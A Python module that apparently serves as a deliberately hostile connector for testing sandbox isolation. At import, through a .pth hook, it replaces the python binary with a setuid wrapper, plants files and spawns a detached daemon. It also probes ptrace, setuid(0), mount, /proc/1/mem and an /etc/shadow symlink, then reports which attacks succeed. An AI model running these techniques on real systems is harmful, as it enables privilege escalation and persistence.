"""A connector that attacks what is near it, and reports which attacks succeed.

Its files have the code run by the installation, too: `syncctl_hostile.pth` imports this module at every start of the
environment's Python.
"""

import json, os, socket, subprocess, sys, time


def attempt(function):
    """Whether an attack succeeds: it returns a true value."""
    try:
        return bool(function())
    except BaseException:
        return False


def writes(path):
    with open(path, "w") as file:
        file.write("evil")
    return True


def reads(path):
    with open(path, "rb") as file:
        return file.read(1) != b""


def during_installation():
    """Runs with the rights of the installer."""
    for target in TARGETS:
        attempt(lambda: writes(os.path.join(target, "planted-by-installation")))
    python = os.path.join(sys.prefix, "bin", "python")
    if os.path.islink(python) and not os.path.exists(python + ".real"):
        # The service would run this one.
        os.rename(python, python + ".real")
        with open(python, "w") as file:
            file.write(f"#!/bin/sh\necho x >'{MARKER}'\nexec \"$(dirname \"$0\")/python.real\" \"$@\"\n")
        os.chmod(python, 0o4755)
        attempt(lambda: os.symlink(MARKER, os.path.join(sys.prefix, "syncctl.json.new")))


def ptrace(pid):
    import ctypes
    return ctypes.CDLL(None).ptrace(16, pid, None, None) == 0


def raised():
    os.setuid(0)
    return True


def connects(path):
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return True


def attacks(config):
    state, cache, service = config["state"], config["cache"], config["service"]
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    yield "sees a process of the service", lambda: os.path.exists(f"/proc/{service}") and os.readlink(f"/proc/{service}/exe")
    yield "sees other processes", lambda: any(reads(f"/proc/{pid}/environ") for pid in pids if pid not in OWN(pids))
    yield "reads the variables of its init", lambda: reads("/proc/1/environ")
    yield "lists the files of its init", lambda: os.listdir("/proc/1/fd")
    yield "reads the memory of its init", lambda: open("/proc/1/mem", "rb")
    yield "traces its init", lambda: ptrace(1)
    yield "signals the service", lambda: os.kill(service, 0) is None
    yield "sees the state directory", lambda: os.listdir(state)
    yield "sees the home directory", lambda: os.listdir(config["home"])
    yield "sees other environments", lambda: len(os.listdir(os.path.join(cache, "connectors"))) > 1
    yield "sees a file of another environment", lambda: os.path.exists(config["neighbour"])
    yield "connects to the database of results", lambda: connects(config["socket"])
    yield "sees a container engine", lambda: any(map(os.path.exists, ["/var/run/docker.sock", "/run/podman", "/run/docker.sock"]))
    yield "writes to its environment", lambda: writes(os.path.join(sys.prefix, "planted"))
    yield "writes to its package", lambda: writes(__file__)
    yield "creates an environment", lambda: os.mkdir(os.path.join(cache, "connectors", "planted")) is None
    yield "replaces a pipe", lambda: os.unlink("/pipes/stdout") is None
    yield "creates a link among the pipes", lambda: os.symlink("/etc/shadow", "/pipes/planted") is None
    yield "changes its configuration", lambda: os.chmod("/config/config.json", 0o666) is None
    yield "writes to the system", lambda: writes("/usr/planted") or writes("/etc/planted")
    yield "reads passwords of the system", lambda: os.path.exists("/etc/shadow")
    yield "becomes root", lambda: os.geteuid() == 0 or raised()
    yield "mounts", lambda: subprocess.run(["mount", "-t", "tmpfs", "x", "/tmp"], capture_output=True).returncode == 0
    yield "gains rights with sudo", lambda: "NoNewPrivs:\t1" not in open("/proc/self/status").read()
    yield "has capabilities", lambda: "CapEff:\t0000000000000000" not in open("/proc/self/status").read()
    yield "has groups", lambda: config["root"] and [group for group in os.getgroups() if group != os.getgid()]
    yield "has a terminal", lambda: open("/dev/tty")
    yield "has variables of the service", lambda: [name for name in os.environ if "SYNCCTL" in name and name != "SYNCCTL_USAGE"]


def OWN(pids):
    return [pid for pid in pids if attempt(lambda: os.stat(f"/proc/{pid}").st_uid == os.getuid()) or pid == 1]


def leave_daemon(name):
    """A process outside of its session and process group, without its environment."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for descriptor in range(3):
                os.close(descriptor)
            os.execve("/bin/sh", ["sh", "-c", f"sleep 600; : {name}"], {"PATH": "/usr/bin:/bin"})
        os._exit(0)


def say(message):
    print(json.dumps(message), flush=True)


def run():
    if sys.argv[1] == "spec":
        return say({"type": "SPEC", "spec": {"connectionSpecification": {}}})
    with open(sys.argv[sys.argv.index("--config") + 1]) as file:
        config = json.load(file)
    problems = []
    for place in (os.environ["HOME"], os.environ["TMPDIR"], "/dev/shm"):
        if not attempt(lambda: writes(os.path.join(place, "own"))):
            problems.append(f"cannot write to {place}")
    if not attempt(lambda: socket.create_connection(("127.0.0.1", config["port"]))):
        problems.append("cannot reach the network")
    successes = [name for name, attack in attacks(config) if attempt(attack)]
    leave_daemon(config["daemon"])
    message = json.dumps({"user": os.getuid(), "successes": successes, "problems": problems})
    say({"type": "CONNECTION_STATUS", "connectionStatus": {"status": "SUCCEEDED", "message": message}})
    time.sleep(config.get("seconds", 0))


attempt(during_installation)
